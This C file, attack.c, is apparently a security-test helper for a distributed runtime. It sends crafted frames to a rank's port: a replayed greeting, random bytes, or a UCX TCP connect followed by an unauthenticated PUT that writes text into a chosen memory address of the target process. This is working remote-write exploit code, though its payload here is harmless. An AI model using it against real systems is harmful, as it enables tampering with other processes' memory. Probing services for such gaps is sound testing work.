/*
 * attack.c - what a stranger sends to a port of a rank.
 *
 *     attack hello HEX_IP:HEX_PORT             as a rank of another job says hello on a line, or of
 *                                              this one in an earlier run; prints the answer
 *     attack garbage HEX_IP:HEX_PORT           random bytes, with nothing in front
 *     attack put HEX_IP:HEX_PORT HEX_ADDRESS   a connection as UCX's TCP transport makes it, and a
 *                                              PUT of a text to an address of that process
 *
 * Addresses stand as in /proc/net/tcp. Exit code 3: nobody listens there.
 *
 * The frames are those of UCX 1.13 (src/uct/tcp/tcp.h): a magic number, a request to connect, and a
 * PUT that nobody asks the sender's right to.
 */
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define MAGIC UINT64_C(0xcafebabe12345678)
#define AM_CONNECT 32 /* UCT_AM_ID_MAX */
#define AM_PUT 33
#define EVENT_CONNECT 1u
#define TEXT "a stranger was here"

static uint8_t frame[512];
static size_t used;

static void add(const void *data, size_t bytes)
{
    memcpy(frame + used, data, bytes);
    used += bytes;
}

static void add_head(uint8_t id, uint32_t bytes)
{
    add(&id, sizeof(id));
    add(&bytes, sizeof(bytes));
}

static void add_connect(void)
{
    const struct sockaddr_in self = {
        .sin_family = AF_INET, .sin_port = htons(4242), .sin_addr.s_addr = htonl(0x0a010203)};
    const uint64_t magic = MAGIC, number = 0;
    const uint32_t event = EVENT_CONNECT;
    const uint8_t flags = 0;

    add(&magic, sizeof(magic));
    add_head(AM_CONNECT, sizeof(event) + sizeof(flags) + sizeof(number) + sizeof(self));
    add(&event, sizeof(event));
    add(&flags, sizeof(flags));
    add(&number, sizeof(number));
    add(&self, sizeof(self));
}

static void add_put(uint64_t address)
{
    const uint64_t bytes = sizeof(TEXT);
    const uint32_t number = 1;

    add_head(AM_PUT, sizeof(address) + sizeof(bytes) + sizeof(number));
    add(&address, sizeof(address));
    add(&bytes, sizeof(bytes));
    add(&number, sizeof(number));
    add(TEXT, sizeof(TEXT));
}

/* runtime/transport/line_hello.h: magic, version, world, rank 1, a challenge and a proof. */
static void add_hello(void)
{
    const uint8_t head[] = {'D', 'P', 'L', 'N', 1, 0, 0, 0, 1, 2, 3, 4, 5, 6, 7, 8, 1, 0, 0, 0};

    add(head, sizeof(head));
    used += 64;
}

/* What comes behind the greeting of 40 bytes, until the other end closes. */
static void print_answer(int fd)
{
    char answer[128] = "";
    size_t have = 0;
    ssize_t got;

    puts("said hello");
    fflush(stdout);
    while (have < sizeof(answer) - 1 &&
           (got = recv(fd, answer + have, sizeof(answer) - 1 - have, 0)) > 0)
        have += (size_t)got;
    puts(have > 40 ? answer + 40 : "nothing");
}

static int reach(const char *where)
{
    struct sockaddr_in to = {.sin_family = AF_INET};
    unsigned ip, port;
    const int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

    if (fd < 0 || sscanf(where, "%8x:%4x", &ip, &port) != 2) exit(2);
    to.sin_addr.s_addr = ip;
    to.sin_port = htons((uint16_t)port);
    if (connect(fd, (const struct sockaddr *)&to, sizeof(to)) != 0) exit(3);
    return fd;
}

int main(int argc, char **argv)
{
    int fd;

    if (argc < 3) return 2;
    fd = reach(argv[2]);
    if (strcmp(argv[1], "garbage") == 0) {
        srand(1);
        while (used < sizeof(frame))
            frame[used++] = (uint8_t)rand();
    } else if (strcmp(argv[1], "hello") == 0) {
        add_hello();
    } else if (argc > 3) {
        add_connect();
        add_put(strtoull(argv[3], NULL, 16));
    }
    if (send(fd, frame, used, MSG_NOSIGNAL) != (ssize_t)used) return 1;
    if (strcmp(argv[1], "hello") == 0) print_answer(fd);
    usleep(200000); /* a process that looks now and then has looked */
    close(fd);
    return 0;
}
